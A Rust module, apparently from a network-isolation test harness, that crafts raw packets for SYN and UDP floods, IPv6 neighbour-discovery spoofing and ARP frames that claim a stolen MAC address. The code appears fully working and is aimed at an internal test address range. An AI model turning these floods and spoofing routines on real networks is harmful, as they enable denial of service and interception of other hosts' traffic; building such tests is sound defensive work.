//! Attacks that need raw packets: SYNs, datagrams from any port, neighbour messages.

use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};

use anyhow::{Context as _, Result};
use rand::Rng as _;
use socket2::{Domain, Protocol, Socket, Type};

use super::attack::Strike;
use crate::raw_frames::RawFrames;

/// Packets per second of the SYN flood.
const SYN_RATE: u32 = 100_000;
const TCP_SYN: u8 = 2;

/// Sends `number` SYNs from random ports to random addresses that policy allows.
pub(super) fn syns(strike: &Strike, own: Ipv4Addr, number: u32) -> Result<()> {
    let socket = raw(Domain::IPV4, Protocol::TCP)?;
    let mut rng = rand::rng();
    strike.paced_at_most(SYN_RATE, number, || {
        let to = reachable(&mut rng);
        let mut segment = Vec::with_capacity(20);
        segment.extend(rng.random_range(1024..u16::MAX).to_be_bytes());
        segment.extend(80u16.to_be_bytes());
        segment.extend(rng.random::<u32>().to_be_bytes());
        segment.extend([0; 4]);
        segment.extend([0x50, TCP_SYN, 0xff, 0xff, 0, 0, 0, 0]);
        let sum = checksum(own, to, 6, &segment);
        segment[16..18].copy_from_slice(&sum.to_be_bytes());
        let _ = socket.send_to(&segment, &SocketAddr::new(to.into(), 0).into());
        Ok(())
    })
}

/// Sends datagrams from random ports to random addresses that policy allows.
pub(super) fn datagrams(strike: &Strike, own: Ipv4Addr, rate: u32) -> Result<()> {
    let socket = raw(Domain::IPV4, Protocol::UDP)?;
    let mut rng = rand::rng();
    strike.paced(rate, || {
        let to = reachable(&mut rng);
        let mut datagram = Vec::with_capacity(16);
        datagram.extend(rng.random_range(1024..u16::MAX).to_be_bytes());
        datagram.extend(7777u16.to_be_bytes());
        datagram.extend(12u16.to_be_bytes());
        datagram.extend([0, 0]);
        datagram.extend(b"evil");
        let sum = checksum(own, to, 17, &datagram);
        datagram[6..8].copy_from_slice(&sum.to_be_bytes());
        let _ = socket.send_to(&datagram, &SocketAddr::new(to.into(), 0).into());
        Ok(())
    })
}

/// Sends neighbour solicitations and advertisements for random addresses.
pub(super) fn neighbours(strike: &Strike, own: Ipv6Addr, rate: u32) -> Result<()> {
    let socket = raw(Domain::IPV6, Protocol::ICMPV6)?;
    socket.set_unicast_hops_v6(255)?;
    socket.set_multicast_hops_v6(255)?;
    let mut rng = rand::rng();
    let router = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1);
    strike.paced(rate, || {
        let target =
            Ipv6Addr::from_bits(own.to_bits() & !0xffff_ffff | u128::from(rng.random::<u32>()));
        // The kernel fills in the checksum of ICMPv6.
        let kind = if rng.random() { 135 } else { 136 };
        let mut message = vec![kind, 0, 0, 0, 0x60, 0, 0, 0];
        message.extend(target.octets());
        message.extend([if kind == 135 { 1 } else { 2 }, 1, 2, 0, 0, 0, 0, 1]);
        let _ = socket.send_to(&message, &SocketAddr::new(router.into(), 0).into());
        Ok(())
    })
}

/// Sends ARP requests of pod A under the MAC `stolen`, so that the bridge learns that MAC at A's port.
pub(super) fn stolen_mac(
    strike: &Strike,
    frames: &RawFrames,
    own: Ipv4Addr,
    stolen: [u8; 6],
    rate: u32,
) -> Result<()> {
    let mut frame = vec![0xff; 6];
    frame.extend(stolen);
    frame.extend([8, 6, 0, 1, 8, 0, 6, 4, 0, 1]);
    frame.extend(frames.mac());
    frame.extend(own.octets());
    frame.extend([0; 6]);
    frame.extend([own.octets()[0], own.octets()[1], own.octets()[2], 1]);
    strike.paced(rate, || {
        // A full send queue affects only the attacker.
        let _ = frames.send(&frame);
        Ok(())
    })
}

/// A random address of [`super::attack::REACHABLE`].
fn reachable(rng: &mut impl rand::Rng) -> Ipv4Addr {
    let first = Ipv4Addr::new(100, 80, 0, 0).to_bits();
    Ipv4Addr::from_bits(first + rng.random_range(0..1 << 20))
}

fn raw(domain: Domain, protocol: Protocol) -> Result<Socket> {
    let socket =
        Socket::new(domain, Type::RAW, Some(protocol)).context("a raw socket (this needs root)")?;
    socket.set_nonblocking(true)?;
    Ok(socket)
}

/// Checksum of a transport header and its payload (RFC 768, RFC 9293).
fn checksum(from: Ipv4Addr, to: Ipv4Addr, protocol: u8, bytes: &[u8]) -> u16 {
    let mut sum = u32::from(protocol) + u32::try_from(bytes.len()).unwrap_or(0);
    for pair in from
        .octets()
        .chunks(2)
        .chain(to.octets().chunks(2))
        .chain(bytes.chunks(2))
    {
        let low = pair.get(1).copied().unwrap_or(0);
        sum += u32::from(u16::from_be_bytes([pair[0], low]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    match !u16::try_from(sum).unwrap_or(u16::MAX) {
        0 => 0xffff,
        sum => sum,
    }
}
